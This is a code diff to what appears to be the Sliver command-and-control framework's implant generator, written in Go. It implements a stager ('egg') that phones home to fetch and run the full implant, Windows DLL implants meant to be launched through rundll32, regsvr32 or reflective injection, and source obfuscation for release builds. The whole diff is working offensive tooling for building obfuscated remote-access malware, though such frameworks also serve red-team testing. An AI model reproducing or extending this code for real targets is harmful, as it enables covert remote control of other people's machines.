@@ -5,11 +5,13 @@ import (
 	"crypto/sha256"
 	"errors"
 	"fmt"
+	"io"
 	"io/ioutil"
 	"log"
 	"os"
 	"path"
 	"path/filepath"
+	"strings"
 	pb "sliver/protobuf/client"
 	"sliver/server/assets"
 	"sliver/server/certs"
@@ -156,37 +158,148 @@ func GetSliversDir() string {
 	return sliversDir
 }
 
-// SliverEgg - Generates a sliver egg (stager) binary
-func SliverEgg(config SliverConfig) (string, error) {
+// populateIdentity - Resolves config.Name (a random codename, if unset) and
+// fills in CACert/Cert/Key from the cert store. Idempotent: a config that
+// already has these fields set (e.g. BuildQueue.run, so the build cache key
+// covers the actual cert material a regenerate would use) is returned
+// unchanged, so calling this again from inside the build itself is a no-op.
+func populateIdentity(config SliverConfig) SliverConfig {
+	if config.Name == "" {
+		config.Name = GetCodename()
+	}
+	if config.CACert == "" || config.Cert == "" || config.Key == "" {
+		rootDir := assets.GetRootAppDir()
+		caCert, _, _ := certs.GetCertificateAuthorityPEM(rootDir, certs.SliversCertDir)
+		sliverCert, sliverKey := certs.GenerateSliverCertificate(rootDir, config.Name, true)
+		config.CACert = string(caCert)
+		config.Cert = string(sliverCert)
+		config.Key = string(sliverKey)
+	}
+	return config
+}
 
-	return "", nil
+// buildStdout - The first writer in a variadic stdout param, or nil if none
+// was given. Lets BuildQueue tail live compiler output while leaving existing
+// zero-arg callers of SliverExecutable/SliverSharedLibrary/SliverEgg unaffected.
+func buildStdout(stdout []io.Writer) io.Writer {
+	if len(stdout) > 0 {
+		return stdout[0]
+	}
+	return nil
 }
 
-// SliverSharedLibrary - Generates a sliver shared library (DLL/dylib/so) binary
-func SliverSharedLibrary(config SliverConfig) (string, error) {
-	return "", nil
+// eggFile - Box path of the egg's source. The egg is a standalone,
+// single-purpose package: it doesn't share a build with the full implant's
+// srcFiles, and "stager/" here is just how it's organized inside the sliver
+// box -- not a real Go subpackage -- so it's rendered with
+// renderStandaloneFile, not renderSliverCode.
+const eggFile = "stager/egg.go"
+
+// SliverEgg - Generates a sliver egg (stager) binary: a minimal first-stage
+// that dials home over the configured transport, fetches the full implant,
+// and hands off execution. The resulting binary is handed to a Packager
+// (see packager.go) before it's delivered.
+func SliverEgg(config SliverConfig, stdout ...io.Writer) (string, error) {
+
+	target := fmt.Sprintf("%s/%s", config.GOOS, config.GOARCH)
+	if _, ok := gogo.ValidCompilerTargets[target]; !ok {
+		return "", fmt.Errorf("Invalid compiler target: %s", target)
+	}
+
+	// DNS staging isn't implemented yet (see sliver/stager/egg.go); fail at
+	// generate time instead of shipping an egg that retries forever and
+	// never stages
+	if config.MTLSServer == "" {
+		return "", errors.New("egg generation requires config.MTLSServer; DNS staging is not yet implemented")
+	}
+
+	config = populateIdentity(config)
+	log.Printf("Generating new sliver egg '%s'", config.Name)
+
+	sliversDir := GetSliversDir() // ~/.sliver/slivers
+
+	// projectDir - ~/.sliver/slivers/<os>/<arch>/<name>_egg/
+	projectGoPathDir := path.Join(sliversDir, config.GOOS, config.GOARCH, config.Name+"_egg")
+	os.MkdirAll(projectGoPathDir, os.ModePerm)
+
+	binDir := path.Join(projectGoPathDir, "bin")
+	os.MkdirAll(binDir, os.ModePerm)
+
+	srcDir := path.Join(projectGoPathDir, "src")
+	assets.SetupGoPath(srcDir)
+
+	eggPkgDir := path.Join(srcDir, "sliver")
+	os.MkdirAll(eggPkgDir, os.ModePerm)
+
+	sliverBox := packr.NewBox(sliverBoxDir)
+	if err := renderStandaloneFile(sliverBox, eggFile, eggPkgDir, config); err != nil {
+		return "", err
+	}
+
+	appDir := assets.GetRootAppDir()
+	goConfig := gogo.GoConfig{
+		GOOS:   config.GOOS,
+		GOARCH: config.GOARCH,
+		GOROOT: gogo.GetGoRootDir(appDir),
+		GOPATH: projectGoPathDir,
+		Stdout: buildStdout(stdout),
+	}
+
+	dest := path.Join(binDir, config.Name+"_egg")
+	if goConfig.GOOS == WINDOWS {
+		dest += ".exe"
+	}
+	tags := []string{"netgo"}
+	ldflags := []string{"-s -w"}
+	if _, err := gogo.GoBuild(goConfig, eggPkgDir, dest, tags, ldflags); err != nil {
+		return "", err
+	}
+
+	// Remember which full implant profile this egg should fetch so the C2
+	// side can serve the second stage when it phones home
+	if err := SaveEggManifest(config.Name, config); err != nil {
+		log.Printf("Failed to save egg manifest: %v", err)
+	}
+
+	return dest, nil
 }
 
-// SliverExecutable - Generates a sliver executable binary
-func SliverExecutable(config SliverConfig) (string, error) {
+// sharedLibShimFile - Tiny C-shim (exports DllMain/Start/RunSliver) that lets
+// the compiled DLL be loaded via rundll32, regsvr32, or reflective injection
+const sharedLibShimFile = "shared_windows.go"
+
+// libraryExtension - Platform-specific extension for a c-shared build artifact
+func libraryExtension(goos string) string {
+	switch goos {
+	case WINDOWS:
+		return ".dll"
+	case DARWIN:
+		return ".dylib"
+	default:
+		return ".so"
+	}
+}
+
+// SliverSharedLibrary - Generates a sliver shared library binary. Only
+// windows targets (a .dll) are built; any other GOOS returns an error, so no
+// .dylib or .so is produced.
+func SliverSharedLibrary(config SliverConfig, stdout ...io.Writer) (string, error) {
 
 	target := fmt.Sprintf("%s/%s", config.GOOS, config.GOARCH)
 	if _, ok := gogo.ValidCompilerTargets[target]; !ok {
 		return "", fmt.Errorf("Invalid compiler target: %s", target)
 	}
 
-	if config.Name == "" {
-		config.Name = GetCodename()
+	// sharedLibShimFile is the only cgo-exported entrypoint we ship, and it's
+	// Windows-only (DllMain/Start/RunSliver); a linux/darwin c-shared build
+	// would have no way to ever be started, since Go's c-shared runtime
+	// doesn't auto-invoke main()
+	if config.GOOS != WINDOWS {
+		return "", fmt.Errorf("shared library output is only supported for windows (no cgo-exported entrypoint for %s yet)", config.GOOS)
 	}
-	log.Printf("Generating new sliver binary '%s'", config.Name)
 
-	// Cert PEM encoded certificates
-	rootDir := assets.GetRootAppDir()
-	caCert, _, _ := certs.GetCertificateAuthorityPEM(rootDir, certs.SliversCertDir)
-	sliverCert, sliverKey := certs.GenerateSliverCertificate(rootDir, config.Name, true)
-	config.CACert = string(caCert)
-	config.Cert = string(sliverCert)
-	config.Key = string(sliverKey)
+	config = populateIdentity(config)
+	log.Printf("Generating new sliver shared library '%s'", config.Name)
 
 	sliversDir := GetSliversDir() // ~/.sliver/slivers
 
@@ -205,38 +318,84 @@ func SliverExecutable(config SliverConfig) (string, error) {
 	sliverPkgDir := path.Join(srcDir, "sliver") // "main"
 	os.MkdirAll(sliverPkgDir, os.ModePerm)
 
-	// Load code template
-	sliverBox := packr.NewBox("../../sliver")
-	for _, boxName := range srcFiles {
-		sliverGoCode, _ := sliverBox.FindString(boxName)
+	// GOOS is always WINDOWS here (see the cgo-exported-entrypoint check above)
+	libFiles := append(append([]string{}, srcFiles...), sharedLibShimFile)
 
-		// We need to correct for the "sliver/sliver/foo" imports, since Go
-		// doesn't allow relative imports and "sliver" is a subdirectory of
-		// the main "sliver" repo we need to fake this when coping the code
-		// to our per-compile "GOPATH"
-		var sliverCodePath string
-		dirName := filepath.Dir(boxName)
-		fileName := filepath.Base(boxName)
-		if dirName != "." {
-			// Add an extra "sliver" dir
-			dirPath := path.Join(sliverPkgDir, "sliver", dirName)
-			if _, err := os.Stat(dirPath); os.IsNotExist(err) {
-				log.Printf("[mkdir] %#v", dirPath)
-				os.MkdirAll(dirPath, os.ModePerm)
-			}
-			sliverCodePath = path.Join(dirPath, fileName)
-		} else {
-			sliverCodePath = path.Join(sliverPkgDir, fileName)
-		}
+	sliverBox := packr.NewBox(sliverBoxDir)
+	if err := renderSliverCode(sliverBox, libFiles, sliverPkgDir, config); err != nil {
+		return "", err
+	}
+	if err := renderPluginFiles(sliverBox, pluginSrcFiles, sliverPkgDir, config); err != nil {
+		return "", err
+	}
 
-		fSliver, _ := os.Create(sliverCodePath)
-		log.Printf("[render] %s", sliverCodePath)
-		sliverCodeTmpl, _ := template.New("sliver").Parse(sliverGoCode)
-		err := sliverCodeTmpl.Execute(fSliver, config)
+	// Compile go code
+	appDir := assets.GetRootAppDir()
+	goConfig := gogo.GoConfig{
+		GOOS:      config.GOOS,
+		GOARCH:    config.GOARCH,
+		GOROOT:    gogo.GetGoRootDir(appDir),
+		GOPATH:    projectGoPathDir,
+		Buildmode: "c-shared", // Produces the .dll/.dylib/.so instead of an executable
+		Stdout:    buildStdout(stdout),
+	}
+
+	if !config.Debug {
+		log.Printf("Obfuscating source code ...")
+		obfuscatedGoPath := path.Join(projectGoPathDir, "obfuscated")
+		obfuscatedPkg, err := gobfuscate.Gobfuscate(goConfig, randomObfuscationKey(), "sliver", obfuscatedGoPath)
 		if err != nil {
-			log.Printf("Failed to render go code: %v", err)
+			log.Printf("Error while obfuscating sliver %v", err)
 			return "", err
 		}
+		goConfig.GOPATH = obfuscatedGoPath
+		log.Printf("Obfuscated GOPATH = %s", obfuscatedGoPath)
+		log.Printf("Obfuscated sliver package: %s", obfuscatedPkg)
+		sliverPkgDir = path.Join(obfuscatedGoPath, "src", obfuscatedPkg) // new "main"
+	}
+
+	dest := path.Join(binDir, config.Name+libraryExtension(config.GOOS))
+	tags := []string{"netgo"}
+	ldflags := []string{"-s -w"}
+	_, err := gogo.GoBuild(goConfig, sliverPkgDir, dest, tags, ldflags)
+	return dest, err
+}
+
+// SliverExecutable - Generates a sliver executable binary
+func SliverExecutable(config SliverConfig, stdout ...io.Writer) (string, error) {
+
+	target := fmt.Sprintf("%s/%s", config.GOOS, config.GOARCH)
+	if _, ok := gogo.ValidCompilerTargets[target]; !ok {
+		return "", fmt.Errorf("Invalid compiler target: %s", target)
+	}
+
+	config = populateIdentity(config)
+	log.Printf("Generating new sliver binary '%s'", config.Name)
+
+	sliversDir := GetSliversDir() // ~/.sliver/slivers
+
+	// projectDir - ~/.sliver/slivers/<os>/<arch>/<name>/
+	projectGoPathDir := path.Join(sliversDir, config.GOOS, config.GOARCH, config.Name)
+	os.MkdirAll(projectGoPathDir, os.ModePerm)
+
+	// binDir - ~/.sliver/slivers/<os>/<arch>/<name>/bin
+	binDir := path.Join(projectGoPathDir, "bin")
+	os.MkdirAll(binDir, os.ModePerm)
+
+	// srcDir - ~/.sliver/slivers/<os>/<arch>/<name>/src
+	srcDir := path.Join(projectGoPathDir, "src")
+	assets.SetupGoPath(srcDir) // Extract GOPATH dependancy files
+
+	sliverPkgDir := path.Join(srcDir, "sliver") // "main"
+	os.MkdirAll(sliverPkgDir, os.ModePerm)
+
+	// Load code template
+	sliverBox := packr.NewBox(sliverBoxDir)
+	if err := renderSliverCode(sliverBox, srcFiles, sliverPkgDir, config); err != nil {
+		return "", err
+	}
+	if err := renderPluginFiles(sliverBox, pluginSrcFiles, sliverPkgDir, config); err != nil {
+		return "", err
 	}
 
 	// Compile go code
@@ -246,6 +405,7 @@ func SliverExecutable(config SliverConfig) (string, error) {
 		GOARCH: config.GOARCH,
 		GOROOT: gogo.GetGoRootDir(appDir),
 		GOPATH: projectGoPathDir,
+		Stdout: buildStdout(stdout),
 	}
 
 	if !config.Debug {
@@ -275,6 +435,95 @@ func SliverExecutable(config SliverConfig) (string, error) {
 	return dest, err
 }
 
+// renderSliverCode - Renders boxName templates into sliverPkgDir, correcting
+// the fake "sliver/sliver/foo" import paths along the way. Shared by
+// SliverExecutable and SliverSharedLibrary so both artifact types stay in sync.
+func renderSliverCode(sliverBox packr.Box, boxNames []string, sliverPkgDir string, config SliverConfig) error {
+	for _, boxName := range boxNames {
+		sliverGoCode, _ := sliverBox.FindString(boxName)
+
+		// We need to correct for the "sliver/sliver/foo" imports, since Go
+		// doesn't allow relative imports and "sliver" is a subdirectory of
+		// the main "sliver" repo we need to fake this when coping the code
+		// to our per-compile "GOPATH"
+		var sliverCodePath string
+		dirName := filepath.Dir(boxName)
+		fileName := filepath.Base(boxName)
+		if dirName != "." {
+			// Add an extra "sliver" dir
+			dirPath := path.Join(sliverPkgDir, "sliver", dirName)
+			if _, err := os.Stat(dirPath); os.IsNotExist(err) {
+				log.Printf("[mkdir] %#v", dirPath)
+				os.MkdirAll(dirPath, os.ModePerm)
+			}
+			sliverCodePath = path.Join(dirPath, fileName)
+		} else {
+			sliverCodePath = path.Join(sliverPkgDir, fileName)
+		}
+
+		fSliver, _ := os.Create(sliverCodePath)
+		log.Printf("[render] %s", sliverCodePath)
+		sliverCodeTmpl, _ := template.New("sliver").Parse(sliverGoCode)
+		err := sliverCodeTmpl.Execute(fSliver, config)
+		if err != nil {
+			log.Printf("Failed to render go code: %v", err)
+			return err
+		}
+	}
+	return nil
+}
+
+// renderPluginFiles - Plugin implant payloads (see RegisterPluginPayloads)
+// declare "package main" and rely on their init() registering a handler in
+// the same compiled binary as sliver.go, unlike srcFiles's limits/ps/
+// taskrunner/procdump trees, which really are their own subpackages.
+// renderSliverCode's "sliver/sliver/foo" subpackage-nesting would bury them
+// in a directory go build never sees, so they're rendered flat into
+// sliverPkgDir instead, with the plugin name folded into the filename so two
+// plugins' same-named source files don't collide.
+func renderPluginFiles(sliverBox packr.Box, boxNames []string, sliverPkgDir string, config SliverConfig) error {
+	for _, boxName := range boxNames {
+		sliverGoCode, err := sliverBox.FindString(boxName)
+		if err != nil {
+			return err
+		}
+		flatName := strings.Replace(boxName, "/", "_", -1)
+		sliverCodePath := path.Join(sliverPkgDir, flatName)
+
+		fSliver, _ := os.Create(sliverCodePath)
+		log.Printf("[render] %s", sliverCodePath)
+		sliverCodeTmpl, _ := template.New("sliver").Parse(sliverGoCode)
+		if err := sliverCodeTmpl.Execute(fSliver, config); err != nil {
+			log.Printf("Failed to render go code: %v", err)
+			return err
+		}
+	}
+	return nil
+}
+
+// renderStandaloneFile - Renders a single boxed template file directly into
+// destDir, ignoring any directory component in boxName. Used for standalone,
+// single-file "main" packages like the egg stager, where boxName's
+// subdirectory is just how the file happens to be organized inside the
+// sliver box -- unlike renderSliverCode, which treats a directory component
+// as a real Go subpackage to fake-nest for relative imports.
+func renderStandaloneFile(sliverBox packr.Box, boxName string, destDir string, config SliverConfig) error {
+	sliverGoCode, err := sliverBox.FindString(boxName)
+	if err != nil {
+		return err
+	}
+	destPath := path.Join(destDir, filepath.Base(boxName))
+
+	fDest, _ := os.Create(destPath)
+	log.Printf("[render] %s", destPath)
+	tmpl, _ := template.New("sliver").Parse(sliverGoCode)
+	if err := tmpl.Execute(fDest, config); err != nil {
+		log.Printf("Failed to render go code: %v", err)
+		return err
+	}
+	return nil
+}
+
 func getObfuscatedSliverPkgDir(obfuscatedDir string) (string, error) {
 	dirList, err := ioutil.ReadDir(obfuscatedDir)
 	if err != nil {